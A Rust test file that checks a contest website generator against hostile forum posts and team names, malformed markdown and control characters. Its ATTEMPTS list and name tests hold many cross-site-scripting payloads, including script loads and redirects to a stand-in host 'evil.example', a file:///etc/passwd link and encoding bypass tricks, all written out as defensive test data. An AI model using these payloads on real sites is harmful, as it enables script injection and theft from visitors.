//! What strangers write: names and posts.

use ledger::{Disqualified, Known};

use crate::contest::{Contest, slug, tree};
use crate::html::{dangers, said, words};

fn with_post(body: &str) -> Contest {
    let contest = Contest::new();
    contest.write("content/forum/x/_section.md", "+++\ntitle = \"X\"\n+++\n");
    post(&contest, 1, body);
    contest
}

fn post(contest: &Contest, number: usize, body: &str) {
    contest.write(
        &format!("content/forum/x/t/{number:04}.md"),
        &format!("+++\ntitle = \"<i>T</i> {{{{7*7}}}}\"\nauthor = \"<b onclick=x>A</b>\"\ndate = 2007-01-01\n+++\n{body}\n"),
    );
}

/// Attempts to run or load something, in every place where a post has words.
const ATTEMPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<style>@import url(//evil.example)</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x></form>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</main></body><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6a;&#x61;vascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](ftp://evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![\"><script>alert(1)</script>](https://evil.example/pixel.gif)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[x](https://good.example '\"><script>alert(1)</script>')",
    "[x](https://good.example \"' onmouseover='alert(1)\")",
    "[x](https://good.example/\"onmouseover=\"alert(1))",
    "[x](https://good.example/<script>)",
    "```\"><script>alert(1)</script>\ncode\n```",
    "~~~\" onclick=\"alert(1)\ncode\n~~~",
    "# \"><script>alert(1)</script>",
    "# x {#\"><script> onclick=alert(1)}",
    "## main\n\n## post-1\n\n## chart-title",
    "| a\"><script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "> > > <script>alert(1)</script>",
    "1. <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "{{ 7 * 7 }} {% include \"base.html\" %} {# x #}",
    "\u{202e}\u{2066}x<script>alert(1)</script>",
    "<scr\u{0}ipt>",
    "<a\u{a0}href=javascript:alert(1)>",
    "+++\ntitle = \"x\"\nauthor = \"organiser\"\n+++\nforged",
];

#[test]
fn nothing_of_a_post_runs_or_loads() {
    for attempt in ATTEMPTS.iter().filter(|attempt| !attempt.contains('\0')) {
        let contest = with_post(attempt);
        contest.built();
        for (name, bytes) in tree(&contest.out()) {
            if name.ends_with(".html") {
                let found = dangers(&String::from_utf8_lossy(&bytes));
                assert!(found.is_empty(), "{attempt:?} left {found:?} on {name}");
            }
        }
    }
    crate::support::told!();
}

#[test]
fn all_attempts_together_leave_nothing_either() {
    let contest = with_post("Hello");
    for (number, attempt) in ATTEMPTS.iter().filter(|attempt| !attempt.contains('\0')).enumerate() {
        post(&contest, number + 2, attempt);
    }
    contest.built();
    for part in ["forum/x/t/index.html", "forum/x/t/page_2/index.html"] {
        assert_eq!(dangers(&contest.page(part)), [""; 0]);
    }
}

#[test]
fn templates_in_posts_stay_words() {
    let contest = with_post("{{ 7 * 7 }} {% raw %} {{ title }}");
    let text = words(&contest.built().page("forum/x/t/index.html"));
    assert!(text.contains("{{ 7 * 7 }} {% raw %} {{ title }}"), "{text}");
    assert!(text.contains("<i>T</i> {{7*7}}"), "{text}");
}

#[test]
fn a_post_cannot_take_an_id_of_the_page() {
    let contest = with_post("# main\n\n# post-1\n\n# Über alles");
    let html = contest.built().page("forum/x/t/index.html");
    assert_eq!(html.matches("id=\"main\"").count(), 1);
    assert_eq!(html.matches("id=\"post-1\"").count(), 1);
    assert!(html.contains("id=\"post-1-über-alles\""));
}

#[test]
fn links_of_strangers_carry_no_weight() {
    let contest = with_post("[x](https://elsewhere.example/)");
    assert!(
        contest.built().page("forum/x/t/index.html").contains("rel=\"ugc nofollow noopener noreferrer\"")
    );
}

#[test]
fn names_are_shown_and_never_obeyed() {
    let mut contest = Contest::new();
    let names = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "{{ 7 * 7 }}{% include \"base.html\" %}",
        "BellKor's Pragmatic Chaos",
        "Vandelay Industries !",
        "ML@UToronto A",
        "&lt;b&gt; &amp;",
        "]]> --> </title></svg>",
        "日本語 עברית العربية",
    ];
    for (number, name) in names.iter().enumerate() {
        let slug = format!("t{number}");
        contest.team(&slug, name);
        contest.scored(&slug, "2008-01-01T00:00:00Z", 0.9);
    }
    contest.refused("t0", "2008-01-02T00:00:00Z", "<b>code</b>", "</td><script>alert(1)</script>");
    contest.built();
    for (file, bytes) in tree(&contest.out()) {
        if file.ends_with(".html") {
            let page = String::from_utf8_lossy(&bytes);
            assert_eq!(dangers(&page), [""; 0], "{file}");
            assert!(file == "404.html" || !said(&page).is_empty(), "{file}");
        }
    }
    let html = contest.page("leaderboard/index.html");
    for name in names {
        let text = words(&html);
        assert!(text.contains(&name.split_whitespace().collect::<Vec<_>>().join(" ")), "{name} in {text}");
    }
}

#[test]
fn costly_markdown_becomes_text_and_is_quick() {
    let deep = "> ".repeat(5_000);
    let wide = format!("{}\n{}\n{}", "|a".repeat(4_000), "|-".repeat(4_000), "|\n".repeat(4_000));
    let many = [
        (deep.clone() + "x", Some("markdown-too-deep")),
        ("> ".repeat(25) + "x", Some("markdown-too-deep")),
        ("- ".repeat(5_000) + "x", Some("markdown-too-deep")),
        (wide, None),
        ("x".repeat(70_000), Some("file-too-long")),
        ("word\n".repeat(20_000), Some("file-too-long")),
        ("[a](/teams/) ".repeat(4_900), None),
        ("[a](/gone) ".repeat(4_900), Some("broken-link")),
        ("[".repeat(20_000), None),
        ("[a](".repeat(10_000), None),
        ("![".repeat(20_000), None),
        ("*a _b ".repeat(8_000), None),
        ("`".repeat(300) + &"` ".repeat(20_000), None),
        ("<!--".repeat(10_000), None),
        ("&".repeat(50_000), None),
        ("\u{a7}".repeat(30_000), None),
        ("[^".repeat(20_000), None),
        ("<a".repeat(20_000), None),
    ];
    for (body, expected) in many {
        let contest = with_post(&body);
        let started = std::time::Instant::now();
        let ran = contest.build();
        let start: String = body.chars().take(12).collect();
        assert!(started.elapsed().as_secs() < 10, "{start:?} took {:?}", started.elapsed());
        assert_eq!(ran.code, 0, "{start:?}: {}", ran.err);
        match expected {
            Some(code) => {
                let warning = format!("warning[{code}]");
                assert!(ran.err.contains(&warning), "{start:?}: {}", ran.err);
                assert!(ran.err.contains("content/forum/x/t/0001.md"), "{start:?}: {}", ran.err);
            }
            None => assert_eq!(ran.err, "", "{start:?}"),
        }
        // One line of words ends in the middle, many at the end of the last whole one.
        let page = words(&contest.page("forum/x/t/index.html"));
        assert_eq!(page.contains("Cut here: the post has"), expected == Some("file-too-long"), "{start:?}");
    }
    crate::support::told!();
}

#[test]
fn posts_that_are_no_text_are_shown_as_far_as_they_are() {
    let contest = with_post("x");
    let path = contest.root().join("content/forum/x/t/0002.md");
    let front = "+++\nauthor = \"A\"\ndate = 2007-01-01\nteam = \"-no team-\"\n+++\n";
    for (bytes, code) in [
        ([front.as_bytes(), b"Latin \xe9\xff one"].concat(), "not-utf8"),
        ([front.as_bytes(), b"bell \0 \x07 one"].concat(), "control-character"),
        ([front.as_bytes(), "turned \u{202e} one".as_bytes()].concat(), "control-character"),
        ([front.as_bytes(), b"one"].concat(), "bad-team"),
    ] {
        std::fs::write(&path, bytes).unwrap();
        let ran = contest.build();
        assert!(ran.code == 0 && ran.err.contains(&format!("warning[{code}]")), "{}", ran.err);
        assert!(words(&contest.page("forum/x/t/index.html")).contains("one"), "{code}");
    }
    for (bytes, code) in [
        (&b"no front matter"[..], "no-front-matter"),
        (b"+++\nauthor = 1\n+++\n", "wrong-type"),
        (b"+++\nauthor = \"A\"\ndate = 2007-01-01T10:00:00\n+++\nx", "bad-date"),
    ] {
        std::fs::write(&path, bytes).unwrap();
        let ran = contest.build();
        assert!(ran.code == 0 && ran.err.contains(&format!("warning[{code}]")), "{}", ran.err);
        assert!(!contest.page("forum/x/t/index.html").contains("post-2"), "{code}");
    }
    #[cfg(unix)]
    {
        std::fs::remove_file(&path).unwrap();
        std::os::unix::fs::symlink("/etc/hostname", &path).unwrap();
        let ran = contest.build();
        assert!(ran.code == 0 && ran.err.contains("warning[not-a-file]"), "{}", ran.err);
    }
    crate::support::told!();
}

/// A post with the title `title`, or none.
fn plain(title: &str) -> String {
    let title = if title.is_empty() { String::new() } else { format!("title = \"{title}\"\n") };
    format!("+++\n{title}author = \"A\"\ndate = 2007-01-01\n+++\nWords.\n")
}

#[test]
fn names_of_threads_and_files_never_stop_a_build() {
    let contest = with_post("x");
    for name in ["index", "api", "page-2", "post-1", "forum", "con", "x", "0", "404"] {
        contest.write(&format!("content/forum/x/{name}/1.md"), &plain(name));
    }
    let odd = [
        ("x/T/1.md", "bad-file-name"),
        ("x/tab le/1.md", "bad-file-name"),
        ("x/e\u{301}/1.md", "bad-file-name"),
        ("x/\u{e9}/1.md", "bad-file-name"),
        ("x/page_2/1.md", "bad-file-name"),
        ("x/untitled/1.md", "no-title"),
        ("x/t/1.md", "same-number"),
        ("x/t/first.md", "bad-file-name"),
        ("x/t/-1.md", "bad-file-name"),
        ("x/t/99999999999.md", "bad-file-name"),
        ("none/t/1.md", "no-section"),
        ("X/t/1.md", "bad-file-name"),
        ("x/t/deeper/1.md", "misplaced-file"),
        ("1.md", "misplaced-file"),
    ];
    for (path, _) in odd {
        contest.write(
            &format!("content/forum/{path}"),
            &plain(if path.contains("untitled") { "" } else { "Odd" }),
        );
    }
    let ran = contest.build();
    assert_eq!(ran.code, 0, "{}", ran.err);
    for (path, code) in odd {
        assert!(ran.err.contains(&format!("warning[{code}]")), "{path}: {}", ran.err);
    }
    let json = contest.build_with(&["--format", "json"]);
    let value: serde_json::Value = serde_json::from_str(&json.out).unwrap();
    assert_eq!(value["findings"].as_array().unwrap().len(), odd.len(), "{value:#}");
    assert!(words(&contest.page("forum/x/untitled/index.html")).contains("untitled"));
    assert!(words(&contest.page("forum/x/page-2/index.html")).contains("page-2"));
    assert_eq!(contest.page("forum/x/t/index.html").matches("<article").count(), 1);
    crate::support::told!();
}

#[test]
fn a_dead_link_in_a_post_is_words_and_a_warning() {
    let contest = with_post("[one](/gone) [two](/teams/a/) [three](/teams/b/) [four](/rules#x)");
    contest.team("a", "A");
    let ran = contest.build();
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(
        ran.err.contains("warning[broken-link]") && ran.err.contains("content/forum/x/t/0001.md:6:1"),
        "{}",
        ran.err
    );
    let html = contest.page("forum/x/t/index.html");
    assert!(html.contains("one <a href=\"../../../teams/a/\">two</a> three four"), "{html}");
    let github = contest.build_with(&["--format", "github"]);
    assert!(github.out.contains("::warning file=content/forum/x/t/0001.md,line=6"), "{}", github.out);
    // What an organiser writes of the forum goes on too when a reader's post changes.
    contest.write("content/faq.md", "+++\ntitle = \"FAQ\"\n+++\n[a](forum/x/t/0001.md#none)\n");
    let ran = contest.build();
    assert!(ran.code == 0 && ran.err.contains("content/faq.md:4:1"), "{}", ran.err);
}

#[test]
fn control_characters_reach_no_file() {
    let bad = "\u{1}\u{8}\u{c}\u{1b}\u{7f}\u{9b}\u{202e}\u{2066}\u{ffff}";
    let mut contest =
        with_post(&format!("a{bad}b &#1; &#x1b; &#27;\n\n# h&#7;\n\n[l](https://a.example/&#8;)"));
    contest.team("a", "A");
    contest.scored("a", "2008-01-01T00:00:00Z", 0.9);
    contest.refused("a", "2008-01-02T00:00:00Z", &format!("c{bad}"), &format!("m{bad}"));
    contest.act(
        "2008-01-03T00:00:00Z",
        Known::Disqualify(Disqualified {
            team: Some(slug("a")),
            receipt: None,
            rule: format!("r{bad}"),
            reason: format!("because{bad}"),
            evidence: Some(format!("e{bad}")),
        }),
    );
    contest.write(
        "content/news/n.md",
        "+++\ntitle = \"N \\u0007\\u009b\"\ndate = 2008-01-02\n+++\nW &#8; &#x85;\n",
    );
    contest.write(
        "content/a.md",
        "+++\ntitle = \"A \\u001b\\u202e\"\nmenu = \"A \\u0001\"\n+++\nx &#1; \u{7}\n",
    );
    contest.built();
    let control = |c: char| {
        (c.is_control() && !matches!(c, '\t' | '\n' | '\r')) || "\u{202e}\u{2066}\u{ffff}".contains(c)
    };
    let is_text = |name: &str| ![".woff2", ".parquet", ".png"].iter().any(|ending| name.ends_with(ending));
    for (name, bytes) in tree(&contest.out()).into_iter().filter(|(name, _)| is_text(name)) {
        let text = String::from_utf8(bytes).unwrap();
        assert!(!text.contains(control), "{name}: {text:?}");
        if name.ends_with(".json") {
            let value: serde_json::Value = serde_json::from_str(&text).unwrap();
            let mut left = vec![&value];
            while let Some(value) = left.pop() {
                match value {
                    serde_json::Value::String(text) => assert!(!text.contains(control), "{name}: {text:?}"),
                    serde_json::Value::Array(items) => left.extend(items),
                    serde_json::Value::Object(fields) => left.extend(fields.values()),
                    _ => {}
                }
            }
        }
        for digits in ["1", "7", "8", "27", "x1", "x1b", "x85"] {
            assert!(!text.contains(&format!("&#{digits};")), "{name} has &#{digits};");
        }
    }
    assert!(words(&contest.page("teams/a/index.html")).contains("m\u{fffd}"));
    crate::support::told!();
}
